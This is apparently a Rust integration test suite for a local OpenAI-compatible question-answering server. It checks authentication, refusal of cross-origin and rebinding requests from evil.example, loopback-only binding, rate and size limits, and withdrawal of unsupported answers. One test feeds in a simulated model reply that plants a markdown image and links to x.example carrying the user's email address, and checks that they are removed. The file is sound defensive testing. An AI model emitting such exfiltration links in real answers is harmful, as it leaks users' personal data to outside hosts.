//! `cairn serve`, the local OpenAI-compatible API, as another tool on this device uses it: a real
//! process, a real keychain, real HTTP, and the real `openai` Python client library.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use serde_json::Value;

mod support;
use support::{Served, serve};

fn cairn(data: &Path) -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_cairn"));
    cmd.arg("--data-dir").arg(data).env_remove("CAIRN_DATA_DIR");
    cmd
}

/// One raw HTTP/1.1 request; the status and the body.
fn http(base: &str, request: &str) -> (u16, String) {
    let addr = base
        .trim_start_matches("http://")
        .trim_end_matches("/v1")
        .to_string();
    let mut stream = TcpStream::connect(&addr).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(60)))
        .unwrap();
    stream.write_all(request.as_bytes()).unwrap();
    let mut response = String::new();
    let _ = stream.read_to_string(&mut response);
    let status = response
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let body = response
        .split_once("\r\n\r\n")
        .map_or("", |(_, b)| b)
        .to_string();
    (status, body)
}

fn get_models(base: &str, host: &str, extra: &str) -> (u16, String) {
    http(
        base,
        &format!("GET /v1/models HTTP/1.1\r\nHost: {host}\r\n{extra}Connection: close\r\n\r\n"),
    )
}

fn add_corpus(data: &Path) {
    let corpus = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/corpus/nature");
    let out = cairn(data)
        .arg("add")
        .arg(corpus.join("lighthouse-skerrow-point.md"))
        .arg(corpus.join("tides.md"))
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
}

#[test]
fn the_openai_client_streams_an_answer_with_citations_and_strangers_are_refused() {
    let data = tempfile::tempdir().unwrap();
    add_corpus(data.path());
    let served = serve(data.path());
    assert!(
        served.base.starts_with("http://127.0.0.1:"),
        "{}",
        served.base
    );
    assert!(served.token.starts_with("cairn-") && served.token.len() > 40);

    // The real client library, over HTTP.
    let python = std::env::var("CAIRN_PYTHON").unwrap_or_else(|_| "python3".into());
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/api/openai_client.py");
    let out = Command::new(&python)
        .arg(&script)
        .arg(&served.base)
        .arg(&served.token)
        .arg("When was the Fresnel lens of Skerrow Point lighthouse made?")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{python} {script:?} failed (scripts/setup installs the `openai` package into \
         ~/.cache/cairn/venv and sets CAIRN_PYTHON):\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let seen: Value = serde_json::from_slice(&out.stdout).unwrap();
    let models: Vec<&str> = seen["models"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert!(
        models.contains(&"cairn") && models.contains(&"cairn-embedding"),
        "{models:?}"
    );

    let stream = &seen["stream"];
    assert!(
        stream["pieces"].as_u64().unwrap() > 1,
        "streamed in pieces: {stream}"
    );
    assert!(!stream["text"].as_str().unwrap().trim().is_empty());
    assert_eq!(stream["finish_reason"], "stop");
    let cited = stream["citations"].as_array().unwrap();
    assert!(
        cited.iter().any(|c| c["doc_path"]
            .as_str()
            .unwrap()
            .ends_with("lighthouse-skerrow-point.md")),
        "{stream}"
    );
    assert!(
        stream["cairn"]["trace_id"].is_number(),
        "one trace per request"
    );
    assert_eq!(stream["cairn"]["route"], "factual");

    let plain = &seen["plain"];
    assert!(!plain["text"].as_str().unwrap().is_empty());
    assert!(plain["citations"].as_array().is_some_and(|c| !c.is_empty()));

    // The conversation's earlier turns are the thread; the last question is its follow-up.
    let follow_up = &seen["follow_up"];
    assert!(!follow_up["text"].as_str().unwrap().is_empty());
    let trace_id = follow_up["cairn"]["trace_id"].as_i64().unwrap();
    let trace = cairn(data.path())
        .args(["trace", &trace_id.to_string(), "--json"])
        .output()
        .unwrap();
    let trace: Value = serde_json::from_slice(&trace.stdout).unwrap();
    assert_eq!(trace["follow_up"], true, "{trace}");
    assert_eq!(trace["question"], "When was its lens made?");
    assert_ne!(
        follow_up["cairn"]["thread_id"], stream["cairn"]["thread_id"],
        "each request its own thread"
    );

    let embeddings = &seen["embeddings"];
    assert_eq!(embeddings["count"], 2);
    assert_eq!(embeddings["dimension"], 384);
    assert_eq!(embeddings["same_either_way"], true);

    assert_eq!(seen["wrong_token"]["status"], 401);
    assert_eq!(seen["wrong_token"]["code"], "invalid_api_key");
    assert_eq!(seen["no_token"]["status"], 401);
    assert_eq!(seen["no_token"]["code"], "missing_api_key");
    assert_eq!(seen["unknown_model"]["status"], 404);

    // The traces of those questions are in the library, like the app's.
    let listed = cairn(data.path())
        .args(["traces", "--json"])
        .output()
        .unwrap();
    let traces: Vec<Value> = serde_json::from_slice(&listed.stdout).unwrap();
    assert!(traces.len() >= 2, "{traces:?}");

    // A page on another site (or one that rebinds its name to this device) is refused.
    let auth = format!("Authorization: Bearer {}\r\n", served.token);
    let host = served
        .base
        .trim_start_matches("http://")
        .trim_end_matches("/v1");
    assert_eq!(get_models(&served.base, host, &auth).0, 200);
    assert_eq!(get_models(&served.base, "evil.example", &auth).0, 403);
    let (status, body) = get_models(
        &served.base,
        host,
        &format!("{auth}Origin: https://evil.example\r\n"),
    );
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("cross_origin"), "{body}");
    assert!(!body.contains("Access-Control-Allow-Origin"));

    // Too large a request is refused before it is read.
    let huge = "x".repeat(2 << 20);
    let body = format!(r#"{{"model":"cairn","messages":[{{"role":"user","content":"{huge}"}}]}}"#);
    let (status, _) = http(
        &served.base,
        &format!(
            "POST /v1/chat/completions HTTP/1.1\r\nHost: {host}\r\n{auth}Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        ),
    );
    assert_eq!(status, 413);
}

#[test]
fn only_this_device_may_listen_and_the_rate_is_bounded() {
    let data = tempfile::tempdir().unwrap();
    for bind in ["0.0.0.0", "192.0.2.7"] {
        let out = cairn(data.path())
            .args(["serve", "--port", "0", "--bind", bind])
            .output()
            .unwrap();
        assert!(!out.status.success(), "{bind}");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("not a loopback address"),
            "{out:?}"
        );
    }

    std::fs::write(
        data.path().join("config.toml"),
        "[api]\nrequests_per_minute = 3\n",
    )
    .unwrap();
    let served = serve(data.path());
    let auth = format!("Authorization: Bearer {}\r\n", served.token);
    let host = served
        .base
        .trim_start_matches("http://")
        .trim_end_matches("/v1");
    let statuses: Vec<u16> = (0..4)
        .map(|_| get_models(&served.base, host, &auth).0)
        .collect();
    assert_eq!(statuses, [200, 200, 200, 429]);
    let addr = host.to_string();
    let mut stream = TcpStream::connect(&addr).unwrap();
    write!(
        stream,
        "GET /v1/models HTTP/1.1\r\nHost: {host}\r\n{auth}Connection: close\r\n\r\n"
    )
    .unwrap();
    let mut response = String::new();
    stream.read_to_string(&mut response).unwrap();
    assert!(
        response.to_ascii_lowercase().contains("retry-after: "),
        "{response}"
    );
}

/// A chat completion over raw HTTP: the JSON reply, or each streamed event's JSON (`[DONE]` left out).
fn chat(served: &Served, body: &Value) -> Vec<Value> {
    let host = served
        .base
        .trim_start_matches("http://")
        .trim_end_matches("/v1");
    let body = body.to_string();
    let (status, reply) = http(
        &served.base,
        &format!(
            "POST /v1/chat/completions HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {}\r\n\
             Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            served.token,
            body.len()
        ),
    );
    assert_eq!(status, 200, "{reply}");
    if !reply.contains("data: ") {
        return vec![serde_json::from_str(&reply).unwrap()];
    }
    reply
        .lines()
        .filter_map(|l| l.strip_prefix("data: "))
        .filter(|d| *d != "[DONE]")
        .map(|d| serde_json::from_str(d).unwrap())
        .collect()
}

/// The text a streamed reply's chunks carry, joined.
fn streamed_text(events: &[Value]) -> String {
    events
        .iter()
        .filter_map(|e| e["choices"][0]["delta"]["content"].as_str())
        .collect()
}

/// `cairn serve` over the lighthouse notes, answering with a cloud model on loopback that writes
/// `pieces`.
fn served_with_cloud(
    runtime: &tokio::runtime::Runtime,
    pieces: &[&str],
) -> (
    tempfile::TempDir,
    cairn_engine::test_support::server::WireServer,
    Served,
) {
    use cairn_engine::test_support::server::{Behaviour, Format, WireServer};
    let server = runtime.block_on(WireServer::start(
        Format::OpenAi,
        Behaviour::Answer {
            pieces: pieces.iter().map(|p| p.to_string()).collect(),
            usage: Some((200, 20)),
            delay: Duration::ZERO,
        },
    ));
    let data = tempfile::tempdir().unwrap();
    std::fs::write(
        data.path().join("config.toml"),
        format!(
            "[router]\npolicy = \"quality_first\"\nsecondary = \"none\"\n\n\
             [budget]\nday = {{ cost = 5.0 }}\nmonth = {{ cost = 50.0 }}\n\n[cache]\nenabled = false\n\n\
             [[providers]]\nname = \"acme\"\nkind = \"openai\"\nbase_url = \"{}\"\nkey = \"none\"\n\
             models = [{{ id = \"acme-large\", tier = \"large\", input_per_mtok = 1.0, output_per_mtok = 1.0 }}]\n",
            server.base_url()
        ),
    )
    .unwrap();
    add_corpus(data.path());
    let served = serve(data.path());
    (data, server, served)
}

const ASKED: &str =
    "When was the Fresnel lens of Skerrow Point lighthouse made? Reply to ana@example.org.";

#[test]
fn a_streamed_answer_is_sent_once_its_checks_pass_unless_live_is_asked_for() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    // A year no passage holds: the output check withdraws the answer.
    let (_data, _server, served) =
        served_with_cloud(&runtime, &["The Fresnel lens ", "was made in 1642 [1].\n"]);
    let ask = |delivery: Option<&str>| {
        let mut body = serde_json::json!({"model": "cairn", "stream": true,
                                          "messages": [{"role": "user", "content": ASKED}]});
        if let Some(d) = delivery {
            body["cairn"] = serde_json::json!({ "delivery": d });
        }
        streamed_text(&chat(&served, &body))
    };
    let checked = ask(None);
    assert!(!checked.trim().is_empty());
    assert!(
        !checked.contains("1642") && !checked.contains("[withdrawn"),
        "nothing the checks refused reaches the client: {checked}"
    );
    let live = ask(Some("live"));
    assert!(
        live.contains("1642") && live.contains("[withdrawn"),
        "live: written as it comes, then withdrawn: {live}"
    );
}

#[test]
fn remote_images_and_links_the_person_did_not_write_are_taken_out_of_answers() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    // The reply plants an image and a link carrying the redacted address, which comes back
    // restored on the way in.
    let (_data, server, served) = served_with_cloud(
        &runtime,
        &[
            "The Fresnel lens was made in 1870 [1].\n",
            "![map](https://x.example/m.png?to=<EMAIL_1>)\n",
            "See [details](https://x.example/d?u=<EMAIL_1>) and [the notes](https://notes.example/lens).\n",
        ],
    );
    let messages = serde_json::json!([{"role": "user",
        "content": format!("{ASKED} My notes are at https://notes.example/lens")}]);
    for body in [
        serde_json::json!({"model": "cairn", "messages": messages}),
        serde_json::json!({"model": "cairn", "stream": true, "messages": messages,
                           "cairn": {"delivery": "live"}}),
        serde_json::json!({"model": "cairn", "stream": true, "messages": messages}),
    ] {
        let events = chat(&served, &body);
        let text = if body["stream"] == true {
            streamed_text(&events)
        } else {
            events[0]["choices"][0]["message"]["content"]
                .as_str()
                .unwrap()
                .to_string()
        };
        assert!(
            !text.contains("x.example") && !text.contains("ana@example.org"),
            "{body}: {text}"
        );
        if body["cairn"]["delivery"] == "live" {
            // Written as it came, the planted image arrived without its address.
            assert!(text.contains("[image: map]"), "{text}");
        }
    }
    // The model was sent the placeholder, never the address.
    let sent = server.requests();
    assert!(!sent.is_empty());
    assert!(sent.iter().all(|r| !r.body.contains("ana@example.org")));
}
